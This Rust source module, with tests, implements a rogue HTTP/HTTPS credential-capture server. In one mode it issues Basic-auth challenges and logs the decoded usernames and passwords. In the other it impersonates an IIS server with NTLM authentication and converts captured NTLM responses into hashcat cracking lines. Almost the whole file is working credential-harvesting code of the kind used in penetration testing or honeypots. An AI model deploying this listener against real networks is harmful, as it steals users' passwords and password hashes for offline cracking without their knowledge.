//! HTTP and HTTPS capture.
//!
//! Two authentication modes are offered, chosen at startup:
//!
//! - `basic`: every response is a `401` challenge for the configured realm; decodable
//!   `Authorization: Basic` headers are recorded.
//! - `ntlm`: impersonates an IIS server with integrated authentication. NEGOTIATE messages are
//!   answered with a fixed CHALLENGE, AUTHENTICATE messages are turned into cracking lines and
//!   answered with an empty `200`.
//!
//! Requests that do not yield a credential are recorded as `access` events.

use std::convert::Infallible;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use bytes::Bytes;
use http_body_util::Full;
use hyper::header::{self, HeaderMap, HeaderValue};
use hyper::server::conn::http1;
use hyper::service::service_fn;
use hyper::{Method, Request, Response, StatusCode};
use hyper_util::rt::{TokioIo, TokioTimer};
use log::debug;
use tokio::io::{AsyncRead, AsyncWrite};
use tokio_rustls::TlsAcceptor;

use super::ntlm::{self, NtlmClass};
use super::{bind_tcp, serve_tcp, SharedSink};
use crate::configuration::types::{HttpAuthMode, Protocol};
use crate::data_capture::CaptureRecord;
use crate::error_handling::types::NetworkError;
use crate::network::listener::ListenerState;

pub const HEADER_READ_TIMEOUT: Duration = Duration::from_secs(60);
pub const WEBDAV_VERBS: &str =
    "OPTIONS,GET,HEAD,POST,PUT,DELETE,TRACE,PROPFIND,PROPPATCH,MKCOL,COPY,MOVE,LOCK,UNLOCK";

#[derive(Clone)]
pub struct HttpOptions {
    pub mode: HttpAuthMode,
    pub realm: String,
    /// Present for the HTTPS listeners.
    pub tls: Option<TlsAcceptor>,
}

struct HttpContext {
    protocol: Protocol,
    mode: HttpAuthMode,
    realm: String,
    server: String,
    sink: SharedSink,
}

pub async fn spawn(
    options: HttpOptions,
    state: Arc<ListenerState>,
    sink: SharedSink,
) -> Result<(), NetworkError> {
    if options.mode == HttpAuthMode::Ntlm {
        describe_challenge();
    }

    let listener = bind_tcp(&state).await?;
    let ctx = Arc::new(HttpContext {
        protocol: state.protocol,
        mode: options.mode,
        realm: options.realm.clone(),
        server: state.server(),
        sink,
    });

    serve_tcp(listener, state, move |stream, peer| {
        let ctx = ctx.clone();
        let tls = options.tls.clone();
        async move {
            match tls {
                Some(acceptor) => match acceptor.accept(stream).await {
                    Ok(stream) => serve_connection(stream, peer, ctx).await,
                    Err(e) => debug!("https handshake with {} failed: {}", peer, e),
                },
                None => serve_connection(stream, peer, ctx).await,
            }
        }
    });
    Ok(())
}

fn describe_challenge() {
    let parsed = ntlm::decode_header(ntlm::CHALLENGE_MESSAGE)
        .and_then(|blob| ntlm::parse_challenge(&blob));
    match parsed {
        Ok(challenge) => debug!(
            "NTLM challenge advertises {} ({}) version {} timestamp {}",
            challenge.target_info.nb_domain.as_deref().unwrap_or_default(),
            challenge.target_info.dns_computer.as_deref().unwrap_or_default(),
            challenge.version,
            challenge.target_info.timestamp_hex().unwrap_or_default()
        ),
        Err(e) => debug!("NTLM challenge could not be parsed: {}", e),
    }
}

async fn serve_connection<S>(stream: S, peer: SocketAddr, ctx: Arc<HttpContext>)
where
    S: AsyncRead + AsyncWrite + Unpin + Send + 'static,
{
    let service = service_fn(move |req| {
        let ctx = ctx.clone();
        async move { Ok::<_, Infallible>(handle(&ctx, peer, req).await) }
    });

    if let Err(e) = http1::Builder::new()
        .timer(TokioTimer::new())
        .header_read_timeout(HEADER_READ_TIMEOUT)
        .keep_alive(true)
        .serve_connection(TokioIo::new(stream), service)
        .await
    {
        debug!("http connection from {} ended: {}", peer, e);
    }
}

fn empty(status: StatusCode) -> Response<Full<Bytes>> {
    let mut response = Response::new(Full::new(Bytes::new()));
    *response.status_mut() = status;
    response
}

fn header_str<'a>(headers: &'a HeaderMap, name: header::HeaderName) -> Option<&'a str> {
    headers.get(name).and_then(|v| v.to_str().ok())
}

/// Request details shared by access and credential records.
struct Seen {
    agent: String,
    path: String,
    url: String,
    authorization: Option<String>,
}

impl Seen {
    fn from_request<B>(protocol: Protocol, req: &Request<B>) -> Self {
        let headers = req.headers();
        let path = req
            .uri()
            .path_and_query()
            .map(|p| p.as_str().to_string())
            .unwrap_or_else(|| req.uri().to_string());
        let host = header_str(headers, header::HOST)
            .map(String::from)
            .or_else(|| req.uri().authority().map(|a| a.to_string()))
            .unwrap_or_default();

        Self {
            agent: header_str(headers, header::USER_AGENT).unwrap_or_default().to_string(),
            url: format!("{}://{}{}", protocol, host, path),
            path,
            authorization: header_str(headers, header::AUTHORIZATION).map(String::from),
        }
    }

    fn record(&self, record: CaptureRecord, server: &str) -> CaptureRecord {
        record
            .with("_server", server)
            .with("agent", self.agent.clone())
            .with("path", self.path.clone())
            .with("url", self.url.clone())
    }
}

/// Answers one request and records what it revealed.
async fn handle<B>(ctx: &HttpContext, peer: SocketAddr, req: Request<B>) -> Response<Full<Bytes>> {
    let seen = Seen::from_request(ctx.protocol, &req);
    let source = peer.to_string();

    let (response, credential) = match ctx.mode {
        HttpAuthMode::Basic => basic(ctx, &source, &seen),
        HttpAuthMode::Ntlm => ntlm_exchange(ctx, &source, req.method(), &seen),
    };

    let record = match credential {
        Some(record) => record,
        None => seen
            .record(CaptureRecord::access(ctx.protocol, source), &ctx.server)
            .with("authorization", seen.authorization.clone().unwrap_or_default()),
    };
    ctx.sink.submit(record).await;

    response
}

/// Username and password from an `Authorization: Basic` header, unless both are empty.
pub fn decode_basic(header: &str) -> Option<(String, String)> {
    let (scheme, payload) = header.trim().split_once(' ')?;
    if !scheme.eq_ignore_ascii_case("basic") || payload.trim().is_empty() {
        return None;
    }
    let raw = STANDARD.decode(payload.trim()).ok()?;
    let raw = String::from_utf8_lossy(&raw);
    let (user, pass) = raw.split_once(':')?;
    if user.is_empty() && pass.is_empty() {
        return None;
    }
    Some((user.to_string(), pass.to_string()))
}

fn basic(
    ctx: &HttpContext,
    source: &str,
    seen: &Seen,
) -> (Response<Full<Bytes>>, Option<CaptureRecord>) {
    let mut response = empty(StatusCode::UNAUTHORIZED);
    let challenge = HeaderValue::from_str(&format!("Basic realm=\"{}\"", ctx.realm))
        .unwrap_or_else(|_| HeaderValue::from_static("Basic"));
    response.headers_mut().insert(header::WWW_AUTHENTICATE, challenge);

    let credential = seen
        .authorization
        .as_deref()
        .and_then(decode_basic)
        .map(|(username, password)| {
            seen.record(CaptureRecord::credential(ctx.protocol, source), &ctx.server)
                .with("username", username)
                .with("password", password)
                .with("method", "basic")
        });

    (response, credential)
}

fn iis_headers(response: &mut Response<Full<Bytes>>) {
    let headers = response.headers_mut();
    headers.insert(header::SERVER, HeaderValue::from_static("Microsoft-IIS/7.5"));
    headers.insert(header::CONNECTION, HeaderValue::from_static("Keep-Alive"));
    headers.insert(
        header::HeaderName::from_static("keep-alive"),
        HeaderValue::from_static("timeout=5, max=100"),
    );
}

fn ntlm_exchange(
    ctx: &HttpContext,
    source: &str,
    method: &Method,
    seen: &Seen,
) -> (Response<Full<Bytes>>, Option<CaptureRecord>) {
    let mut credential = None;

    let mut response = if method == Method::OPTIONS {
        let mut response = empty(StatusCode::OK);
        response
            .headers_mut()
            .insert(header::ALLOW, HeaderValue::from_static(WEBDAV_VERBS));
        response
    } else if method == Method::GET || method.as_str() == "PROPFIND" {
        let header = seen.authorization.as_deref();
        match ntlm::classify(header) {
            NtlmClass::Absent => challenge_response(HeaderValue::from_static("NTLM")),
            NtlmClass::Negotiate => {
                let value = HeaderValue::from_str(&format!("NTLM {}", ntlm::CHALLENGE_MESSAGE))
                    .unwrap_or_else(|_| HeaderValue::from_static("NTLM"));
                challenge_response(value)
            }
            NtlmClass::Authenticate => {
                let parsed = ntlm::decode_header(header.unwrap_or_default())
                    .and_then(|blob| ntlm::parse_authenticate(&blob));
                match parsed {
                    Ok(msg) => {
                        credential = Some(
                            seen.record(CaptureRecord::credential(ctx.protocol, source), &ctx.server)
                                .with("username", msg.user.clone())
                                .with("domain", msg.domain.clone())
                                .with("workstation", msg.workstation.clone())
                                .with("hashcat", ntlm::hashcat_line(&msg))
                                .with("method", "NTLMSSP"),
                        );
                        empty(StatusCode::OK)
                    }
                    Err(e) => {
                        debug!("NTLM authenticate message rejected: {}", e);
                        empty(StatusCode::NOT_FOUND)
                    }
                }
            }
            NtlmClass::Malformed => empty(StatusCode::NOT_FOUND),
        }
    } else {
        empty(StatusCode::NOT_FOUND)
    };

    iis_headers(&mut response);
    (response, credential)
}

fn challenge_response(value: HeaderValue) -> Response<Full<Bytes>> {
    let mut response = empty(StatusCode::UNAUTHORIZED);
    response.headers_mut().insert(header::WWW_AUTHENTICATE, value);
    response
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::data_capture::RecordKind;
    use crate::test_support::MemorySink;
    use hyper::body::Body as _;
    use std::sync::Arc;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    use tokio::net::TcpStream;

    fn context(mode: HttpAuthMode, sink: Arc<MemorySink>) -> HttpContext {
        HttpContext {
            protocol: Protocol::Http,
            mode,
            realm: "Administration".to_string(),
            server: "[::]:80".to_string(),
            sink,
        }
    }

    fn peer() -> SocketAddr {
        "198.51.100.7:51515".parse().unwrap()
    }

    fn request(method: &str, authorization: Option<&str>) -> Request<()> {
        let mut builder = Request::builder()
            .method(method)
            .uri("/owa/?x=1")
            .header("Host", "mail.corp.local")
            .header("User-Agent", "curl/8.0");
        if let Some(value) = authorization {
            builder = builder.header("Authorization", value);
        }
        builder.body(()).unwrap()
    }

    fn header<'a>(response: &'a Response<Full<Bytes>>, name: &str) -> Option<&'a str> {
        response.headers().get(name).and_then(|v| v.to_str().ok())
    }

    #[test]
    fn test_decode_basic() {
        assert_eq!(
            decode_basic("Basic YWxpY2U6c2VjcmV0"),
            Some(("alice".to_string(), "secret".to_string()))
        );
        assert_eq!(
            decode_basic("basic OnB3"),
            Some((String::new(), "pw".to_string()))
        );
        assert_eq!(decode_basic("Basic Og=="), None);
        assert_eq!(decode_basic("Bearer YWxpY2U6c2VjcmV0"), None);
        assert_eq!(decode_basic("Basic !!!"), None);
        assert_eq!(decode_basic("Basic"), None);
    }

    #[tokio::test]
    async fn test_basic_credentials_are_recorded() {
        let sink = MemorySink::new();
        let ctx = context(HttpAuthMode::Basic, sink.clone());

        let response = handle(&ctx, peer(), request("GET", Some("Basic YWxpY2U6c2VjcmV0"))).await;
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
        assert_eq!(
            header(&response, "www-authenticate"),
            Some("Basic realm=\"Administration\"")
        );

        let records = sink.records();
        assert_eq!(records.len(), 1);
        let record = &records[0];
        assert_eq!(record.kind, RecordKind::Credential);
        assert_eq!(record.get("username"), Some("alice"));
        assert_eq!(record.get("password"), Some("secret"));
        assert_eq!(record.get("method"), Some("basic"));
        assert_eq!(record.get("url"), Some("http://mail.corp.local/owa/?x=1"));
        assert_eq!(record.get("agent"), Some("curl/8.0"));
        assert_eq!(record.source, "198.51.100.7:51515");
    }

    #[tokio::test]
    async fn test_basic_without_header_is_access_only() {
        let sink = MemorySink::new();
        let ctx = context(HttpAuthMode::Basic, sink.clone());

        let response = handle(&ctx, peer(), request("POST", None)).await;
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED);

        let records = sink.records();
        assert_eq!(records.len(), 1);
        assert_eq!(records[0].kind, RecordKind::Access);
        assert_eq!(records[0].get("authorization"), Some(""));
        assert_eq!(records[0].get("path"), Some("/owa/?x=1"));
    }

    #[tokio::test]
    async fn test_ntlm_handshake_states() {
        let sink = MemorySink::new();
        let ctx = context(HttpAuthMode::Ntlm, sink.clone());

        let absent = handle(&ctx, peer(), request("GET", None)).await;
        assert_eq!(absent.status(), StatusCode::UNAUTHORIZED);
        assert_eq!(header(&absent, "www-authenticate"), Some("NTLM"));
        assert_eq!(header(&absent, "server"), Some("Microsoft-IIS/7.5"));
        assert_eq!(header(&absent, "keep-alive"), Some("timeout=5, max=100"));

        let negotiate_blob = STANDARD.encode([0x4eu8; 40]);
        let negotiate = handle(
            &ctx,
            peer(),
            request("PROPFIND", Some(&format!("NTLM {}", negotiate_blob))),
        )
        .await;
        assert_eq!(negotiate.status(), StatusCode::UNAUTHORIZED);
        assert_eq!(
            header(&negotiate, "www-authenticate"),
            Some(format!("NTLM {}", ntlm::CHALLENGE_MESSAGE).as_str())
        );

        let malformed = handle(&ctx, peer(), request("GET", Some("NTLM %%%"))).await;
        assert_eq!(malformed.status(), StatusCode::NOT_FOUND);

        let options = handle(&ctx, peer(), request("OPTIONS", None)).await;
        assert_eq!(options.status(), StatusCode::OK);
        assert_eq!(header(&options, "allow"), Some(WEBDAV_VERBS));

        let post = handle(&ctx, peer(), request("POST", None)).await;
        assert_eq!(post.status(), StatusCode::NOT_FOUND);

        let records = sink.records();
        assert_eq!(records.len(), 5);
        assert!(records.iter().all(|r| r.kind == RecordKind::Access));
    }

    #[tokio::test]
    async fn test_ntlm_authenticate_is_captured() {
        let sink = MemorySink::new();
        let ctx = context(HttpAuthMode::Ntlm, sink.clone());

        let blob = ntlm::tests::authenticate_blob(&[0x11; 24], &[0x22; 24], "CORP", "jdoe", "LAPTOP7");
        let value = format!("NTLM {}", STANDARD.encode(&blob));
        let response = handle(&ctx, peer(), request("GET", Some(&value))).await;
        assert_eq!(response.status(), StatusCode::OK);
        assert_eq!(header(&response, "www-authenticate"), None);
        assert_eq!(header(&response, "server"), Some("Microsoft-IIS/7.5"));
        assert_eq!(response.body().size_hint().exact(), Some(0));

        let records = sink.records();
        assert_eq!(records.len(), 1);
        let record = &records[0];
        assert_eq!(record.kind, RecordKind::Credential);
        assert_eq!(record.get("username"), Some("jdoe"));
        assert_eq!(record.get("domain"), Some("CORP"));
        assert_eq!(record.get("workstation"), Some("LAPTOP7"));
        assert_eq!(record.get("method"), Some("NTLMSSP"));
        assert_eq!(
            record.get("hashcat"),
            Some(
                format!(
                    "jdoe::LAPTOP7:{}:{}:1122334455667788",
                    "11".repeat(24),
                    "22".repeat(24)
                )
                .as_str()
            )
        );
    }

    #[tokio::test]
    async fn test_ntlm_unparseable_authenticate_is_404() {
        let sink = MemorySink::new();
        let ctx = context(HttpAuthMode::Ntlm, sink.clone());

        let value = format!("NTLM {}", STANDARD.encode([0x41u8; 100]));
        let response = handle(&ctx, peer(), request("GET", Some(&value))).await;
        assert_eq!(response.status(), StatusCode::NOT_FOUND);
        assert_eq!(sink.records()[0].kind, RecordKind::Access);
    }

    async fn read_head<S: tokio::io::AsyncRead + Unpin>(stream: &mut S) -> String {
        let mut raw = Vec::new();
        let mut byte = [0u8; 1];
        while !raw.ends_with(b"\r\n\r\n") {
            if stream.read(&mut byte).await.unwrap() == 0 {
                break;
            }
            raw.push(byte[0]);
        }
        String::from_utf8_lossy(&raw).to_string()
    }

    #[tokio::test]
    async fn test_keep_alive_over_loopback() {
        let _ = env_logger::builder().is_test(true).try_init();
        let sink = MemorySink::new();
        let state = Arc::new(ListenerState::new(Protocol::Http, "127.0.0.1", 0));
        let options = HttpOptions {
            mode: HttpAuthMode::Basic,
            realm: "Intranet".to_string(),
            tls: None,
        };
        spawn(options, state.clone(), sink.clone()).await.unwrap();

        let mut stream = TcpStream::connect(state.local_addr().unwrap()).await.unwrap();
        for _ in 0..2 {
            stream
                .write_all(b"GET / HTTP/1.1\r\nHost: test\r\nAuthorization: Basic Ym9iOmh1bnRlcjI=\r\n\r\n")
                .await
                .unwrap();
            let head = read_head(&mut stream).await;
            assert!(head.starts_with("HTTP/1.1 401"));
            assert!(head.to_ascii_lowercase().contains("www-authenticate: basic realm=\"intranet\""));
        }

        let records = sink.wait_for(2).await;
        assert_eq!(records[1].get("username"), Some("bob"));
        assert_eq!(records[1].get("password"), Some("hunter2"));
        state.shutdown();
    }

    #[tokio::test]
    async fn test_https_shares_the_handler() {
        let sink = MemorySink::new();
        let (acceptor, cert) = crate::protocols::tls::tests::test_acceptor();
        let state = Arc::new(ListenerState::new(Protocol::Https, "127.0.0.1", 0));
        let options = HttpOptions {
            mode: HttpAuthMode::Ntlm,
            realm: "Administration".to_string(),
            tls: Some(acceptor),
        };
        spawn(options, state.clone(), sink.clone()).await.unwrap();

        let mut stream = crate::protocols::tls::tests::connect(state.local_addr().unwrap(), cert).await;
        stream
            .write_all(b"GET /ews HTTP/1.1\r\nHost: mail\r\n\r\n")
            .await
            .unwrap();
        let head = read_head(&mut stream).await;
        assert!(head.starts_with("HTTP/1.1 401"));

        let records = sink.wait_for(1).await;
        assert_eq!(records[0].protocol, Protocol::Https);
        assert_eq!(records[0].get("url"), Some("https://mail/ews"));
        state.shutdown();
    }
}
